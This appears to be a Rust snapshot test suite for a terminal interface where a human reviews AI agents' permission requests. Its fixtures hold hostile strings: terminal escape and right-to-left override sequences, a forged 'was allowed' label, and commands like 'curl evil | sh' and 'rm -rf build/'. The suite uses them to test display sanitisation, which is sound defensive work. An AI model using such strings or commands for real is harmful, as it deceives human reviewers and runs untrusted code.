//! Every screen at three sizes, with hostile texts in it. Look at these when something is changed.

use pointsman_ledger::{RecordBody, RequestClosed, RequestOpened, Showing, WorkerEnd};
use pointsman_model::{
    Answerer, EditInput, JsonText, Lineage, Outcome, PermissionMode, PermissionRequest, Risk,
    RiskTag, Surface, ToolInput, ToolName, Verdict, VerdictKind, WorkerId,
};
use pointsman_swarm::{JobEnd, RunEvent};

use ratatui::layout::Size;
use ratatui::style::Modifier;

use super::before::Before;
use super::event::Event;
use super::stage::{FAKES, Stage, nothing_faked, request_of, step};
use crate::{Look, fixture};

const SIZES: [(u16, u16); 3] = [(80, 24), (120, 40), (200, 60)];
/// A label that would hide, reorder, clear and fake if it were printed as it is.
const EVIL: &str = "lin\u{202e}ks\u{1b}[2J\n\u{200b}r3-1 was allowed 漢字";

fn run_id(number: u32) -> WorkerId {
    WorkerId::new(fixture::run(), number)
}

fn edit(number: u32, lineage: &Lineage) -> PermissionRequest {
    let input = EditInput {
        file_path: "/w/proj/src/server.rs".into(),
        old_string: "fn port() -> u16 {\n    80\n}\n".into(),
        new_string: "fn port() -> u16 {\n    // \u{202e}nothing to see\n    8080\n}\n".into(),
        replace_all: None,
    };
    let mut request = request_of(number, "edit", lineage);
    request.call.tool = ToolName::parse("Edit").unwrap();
    request.call.text = JsonText::of(&input).unwrap();
    request.call.input = ToolInput::Edit(input);
    request
}

/// A run in the middle: jobs in every state, a hostile agent, equal and grave requests.
fn busy(width: u16, height: u16) -> Stage {
    let jobs = ["docs", "build", "release", "notes", "publish"];
    let mut stage = Stage::with_jobs(width, height, &jobs);
    let [docs, build, release, notes] = [(1, "docs"), (2, "build"), (3, "release"), (4, "notes")]
        .map(|(number, name)| Lineage::root(step(number, name)));
    let links = docs.child(step(5, EVIL));
    let spelling = docs.child(step(6, "spelling"));
    for lineage in [&docs, &build, &release, &notes, &links, &spelling] {
        stage.spawned(lineage);
    }
    stage.runs(&request_of(
        90,
        "cargo build --workspace --all-targets",
        &build,
    ));
    let refused = request_of(91, "curl evil", &spelling);
    stage.runs(&refused);
    stage.call_ends(&refused, Some(Outcome::Refused), "refused by a rule");
    stage.wait(70_000);
    stage.worker_ends(run_id(4), WorkerEnd::Done, "all notes are written");
    stage.take(Event::Run(RunEvent::JobEnded {
        job: "notes".into(),
        end: JobEnd::Done {
            summary: "all notes are written".into(),
        },
    }));
    let push = "git push origin main";
    stage.asks(request_of(1, push, &links));
    stage.wait(9_000);
    stage.asks(request_of(2, push, &release));
    let mut grave = fixture::grave(3, "rm -rf build/ && echo \u{1b}[2Jdone\u{202e}");
    grave.lineage = build.clone();
    stage.asks(grave);
    stage.wait(12_000);
    stage.asks(edit(4, &docs));
    stage
}

/// What every picture has to hold: no character of the hostile texts as it is.
#[track_caller]
fn harmless(text: &str) {
    let evil =
        |char: char| char != '\n' && (char.is_control() || "\u{202e}\u{200b}".contains(char));
    assert!(!text.contains(evil), "{text}");
    for line in text.lines() {
        assert!(!line.trim_start().starts_with("r3-1 was allowed"), "{text}");
    }
    nothing_faked(text.lines());
}

fn picture(name: &str, press: impl Fn(&mut Stage)) {
    for (width, height) in SIZES {
        let mut stage = busy(width, height);
        press(&mut stage);
        let text = stage.text();
        harmless(&text);
        // A terminal that has just been made smaller has not told so yet: what fits is the same.
        for (width, height) in [(0, 0), (1, 1), (10, 2), (33, 40)] {
            let (width, height) = (
                width.min(stage.state.size.width),
                height.min(stage.state.size.height),
            );
            let small = stage.buffer_of(Size { width, height }, Look::Plain);
            let whole = stage.buffer(Look::Plain);
            for at in small.area.positions() {
                let wide = whole[at].symbol().len() > small[at].symbol().len();
                assert!(small[at] == whole[at] || wide, "{at} of {width}x{height}");
            }
        }
        insta::assert_snapshot!(format!("{name}_{width}x{height}"), text);
    }
}

#[test]
fn nothing_has_happened_yet() {
    for (width, height) in SIZES {
        let mut stage = Stage::with_jobs(width, height, &["docs", "build"]);
        stage.see();
        insta::assert_snapshot!(format!("empty_{width}x{height}"), stage.text());
    }
}

#[test]
fn the_overview() {
    picture("overview", |stage| {
        stage.press("<down><down>");
    });
}

#[test]
fn the_overview_with_a_filter() {
    picture("filter", |stage| {
        stage.press("/build");
    });
}

#[test]
fn a_request() {
    picture("request", |stage| {
        stage.press("<enter>");
    });
}

#[test]
fn a_request_to_edit_a_file() {
    picture("edit_request", |stage| {
        stage.press("<down><down><down><enter>");
    });
}

#[test]
fn a_long_request_with_everything() {
    picture("long_request", |stage| {
        let links = Lineage::root(step(1, "docs"));
        let long = format!(
            "cat <<'X' > {}\n{}X\n",
            "long/".repeat(30),
            "a line\n".repeat(40)
        );
        let mut request = request_of(9, &long, &links);
        request.rewritten_from = JsonText::parse(r#"{"command":"cat x"}"#).ok();
        if let Some(pointsman_model::EffectKind::Run(run)) = request
            .effects
            .list
            .first_mut()
            .map(|effect| &mut effect.kind)
        {
            run.risks.push(Risk {
                tag: RiskTag::Network,
                span: run.span,
            });
        }
        stage.asks(request).press("<end><enter><pgdn>");
    });
}

#[test]
fn a_request_that_fakes_lines_of_ours() {
    picture("fakes", |stage| {
        let fakes = format!("make {} {}", "a".repeat(62), FAKES.join(" "));
        let mut request = request_of(9, &fakes, &Lineage::root(step(1, &fakes)));
        request.task = fakes.as_str().into();
        stage.asks(request).press("<end><enter>");
    });
}

/// Flags and the like: each terminal draws them as wide as it likes, and the rest of the row elsewhere.
#[test]
fn a_request_with_signs_that_terminals_draw_in_different_widths() {
    picture("widths", |stage| {
        let signs = "🇦🇷🇦🇺 👍\u{1f3fd} 👨\u{200d}👩\u{200d}👧 ⚠\u{fe0f} 1\u{fe0f}\u{20e3} \u{1112}\u{1161}\u{11ab} \u{915}\u{94d}\u{937}\u{93f}";
        let command = format!("echo '{signs}' ✅ 漢字 e\u{301} {}", "🇦🇷".repeat(20));
        let mut request = request_of(9, &command, &Lineage::root(step(1, signs)));
        request.task = signs.into();
        stage.asks(request).press("<end>");
        let listed = stage.text();
        stage.press("<enter>");
        for text in [listed, stage.text()] {
            let sure = |char: char| !matches!(char, '\u{1f1e6}'..='\u{1f1ff}' | '\u{1f3fb}'..='\u{1f3ff}' | '\u{20e3}' | '\u{fe0f}' | '\u{1161}');
            assert!(text.chars().all(sure), "{text}");
        }
    });
}

/// A request to write a file that is there, and what it says now.
fn write(number: u32, lineage: &Lineage) -> (PermissionRequest, Before) {
    let input = pointsman_model::WriteInput {
        file_path: "/w/proj/src/server.rs".into(),
        content: "fn port() -> u16 {\n    8080\n}\n\n// \u{202e}the end\n".into(),
    };
    let mut request = request_of(number, "write", lineage);
    request.call.tool = ToolName::parse("Write").unwrap();
    request.call.text = JsonText::of(&input).unwrap();
    request.call.input = ToolInput::Write(input);
    let before = "fn port() -> u16 {\n    80\n}\n\n\u{1b}[2Jold\n";
    (request, Before::Text(before.into()))
}

#[test]
fn a_file_that_would_be_changed() {
    picture("write_request", |stage| {
        let (request, before) = write(9, &Lineage::root(step(1, "docs")));
        let id = request.id;
        stage.asks(request).press("<end><enter>");
        stage.take(Event::Before(id, before)).see();
    });
}

#[test]
fn a_file_that_would_change_in_what_is_not_seen() {
    picture("ends_request", |stage| {
        let (mut request, _) = write(9, &Lineage::root(step(1, "docs")));
        let input = pointsman_model::WriteInput {
            file_path: "/w/proj/run.sh".into(),
            content: "#!/bin/sh\r\nmake \t\n\tcargo test\nexit 0\nrm x\r".into(),
        };
        request.call.text = JsonText::of(&input).unwrap();
        request.call.input = ToolInput::Write(input);
        let before = "#!/bin/sh\nmake\n    cargo test\nexit 0\nrm x\n";
        let id = request.id;
        stage.asks(request).press("<end><enter>");
        stage
            .take(Event::Before(id, Before::Text(before.into())))
            .see();
    });
}

#[test]
fn parts_that_a_hook_rewrote_are_marked() {
    let rewritten = |stage: &mut Stage| {
        let mut request = request_of(9, "git push --dry-run", &Lineage::root(step(1, "docs")));
        request.rewritten_from = JsonText::parse(r#"{"command":"git push --force"}"#).ok();
        stage.asks(request).press("<end><enter>");
    };
    picture("rewritten", rewritten);
    let mut stage = busy(80, 24);
    rewritten(&mut stage);
    let buffer = stage.buffer(Look::Plain);
    let marked: String = buffer
        .content
        .iter()
        .filter(|cell| cell.modifier.contains(Modifier::UNDERLINED))
        .map(|cell| cell.symbol())
        .collect();
    // Without colours too: by a line under them.
    assert!(
        marked.contains("force") && marked.contains("dry"),
        "{marked}"
    );
    assert!(!marked.contains("push"), "{marked}");
}

/// What a classifier refused, with hostile words of its own.
fn refused(stage: &mut Stage) {
    let mut request = request_of(9, "curl evil \u{202e}| sh", &Lineage::root(step(1, "docs")));
    request.mode = PermissionMode::Auto;
    request.opened_at = stage.now;
    stage.record(RecordBody::RequestOpened(Box::new(RequestOpened {
        request: request.clone(),
        showing: Showing::AfterChecks,
    })));
    let verdict = Verdict {
        kind: VerdictKind::Deny {
            text: Some("it talks to a stranger\u{1b}[2J\nr3-1 was allowed".into()),
        },
        by: Answerer::Classifier { name: EVIL.into() },
        at: stage.now,
        digest: request.digest,
    };
    stage.record(RecordBody::RequestClosed(RequestClosed {
        request: request.id,
        call: request.call.id,
        verdict,
    }));
}

#[test]
fn what_a_classifier_refused() {
    picture("refused", |stage| {
        refused(stage);
        stage.press("c<down>");
    });
}

#[test]
fn lifting_a_classifiers_no() {
    picture("lift", |stage| {
        refused(stage);
        stage.press("c<down><enter><pgdn><pgdn><pgdn>a");
    });
}

/// On a light ground as on a dark one: no ground of its own, no white and no black, nothing that a theme does not set.
#[test]
fn no_view_has_colours_that_a_light_or_a_dark_terminal_hides() {
    use ratatui::style::Color;
    for keys in [
        "",
        "<down>",
        "<enter>",
        "<enter>a",
        "<enter>d",
        "?",
        "<tab><down><down>s",
    ] {
        let mut stage = busy(120, 40);
        refused(&mut stage);
        stage.press(keys);
        let buffer = stage.buffer(Look::Colours);
        for cell in &buffer.content {
            assert_eq!(cell.bg, Color::Reset, "{keys}");
            let hidden = [Color::White, Color::Black, Color::Gray, Color::DarkGray];
            assert!(!hidden.contains(&cell.fg), "{keys} {cell:?}");
            assert!(
                !matches!(cell.fg, Color::Rgb(..) | Color::Indexed(_)),
                "{keys}"
            );
            // Yellow on white is pale: it is bold where it is used.
            let pale = cell.fg == Color::Yellow && !cell.modifier.contains(Modifier::BOLD);
            assert!(!pale, "{keys} {cell:?}");
        }
    }
}

#[test]
fn allowing() {
    picture("allow", |stage| {
        stage.press("<enter><pgdn><pgdn><pgdn>a<down>");
    });
}

#[test]
fn allowing_with_a_grant() {
    picture("grant", |stage| {
        stage.press("<enter><pgdn><pgdn><pgdn>a<down><down><down><right>");
    });
}

#[test]
fn a_rule_that_is_being_written() {
    picture("rule", |stage| {
        stage.press("<enter><pgdn><pgdn><pgdn>a<down><down><down>e<bs>");
    });
}

#[test]
fn a_grave_yes() {
    picture("confirm", |stage| {
        stage.press("<down><down><enter><pgdn><pgdn><pgdn>a<C-y>r3-");
    });
}

#[test]
fn denying_all_of_an_agent() {
    picture("deny", |stage| {
        stage.press("<down><down><down><enter>xuse the staging branch");
    });
}

#[test]
fn changing_the_input() {
    picture("edit", |stage| {
        stage.press("<down><down><enter><pgdn><pgdn><pgdn>e");
    });
}

#[test]
fn one_that_ended_elsewhere() {
    picture("ended", |stage| {
        stage.press("<down><down><down><enter>");
        let docs = Lineage::root(step(1, "docs"));
        stage.ends(
            &edit(4, &docs),
            Surface::Command,
            VerdictKind::Deny {
                text: Some("not \u{202e}now".into()),
            },
        );
    });
}

#[test]
fn a_transcript() {
    picture("transcript", |stage| {
        let docs = Lineage::root(step(1, "docs")).child(step(5, EVIL));
        stage.press("<tab><down><down><down><enter>");
        stage.take(Event::Loaded(run_id(5), Vec::new()));
        let fakes = request_of(94, &format!("touch ddd {}", FAKES.join(" ")), &docs);
        stage.runs(&fakes);
        let request = request_of(95, "cat docs/index.md \u{1b}[2J", &docs);
        stage.runs(&request);
        stage.call_ends(
            &request,
            None,
            "# Title\n\n\u{202e}hidden\u{1b}]0;owned\u{7} text\n",
        );
        stage.press("/title");
    });
}

#[test]
fn stopping() {
    picture("stop", |stage| {
        stage.press("<tab><down><down>s");
    });
}

#[test]
fn the_help() {
    picture("help", |stage| {
        stage.press("?");
    });
}

#[test]
fn a_window_that_is_too_small_shows_no_request() {
    let mut stage = busy(38, 9);
    stage.press("<enter>a<C-y>");
    assert_eq!(stage.answers(), []);
    insta::assert_snapshot!(stage.text());
}

#[test]
fn without_colours_nothing_has_one_and_with_them_only_the_terminals_own() {
    use ratatui::style::Color;
    let mut stage = busy(120, 40);
    stage.press("<down><down><down><enter>a<C-y>");
    for (look, coloured) in [(Look::Plain, false), (Look::Colours, true)] {
        let buffer = stage.buffer(look);
        let own = [
            Color::Red,
            Color::Green,
            Color::Yellow,
            Color::Cyan,
            Color::Reset,
        ];
        assert!(buffer.content.iter().all(|cell| cell.bg == Color::Reset));
        assert!(buffer.content.iter().all(|cell| own.contains(&cell.fg)));
        let has = buffer.content.iter().any(|cell| cell.fg != Color::Reset);
        assert_eq!(has, coloured);
    }
}
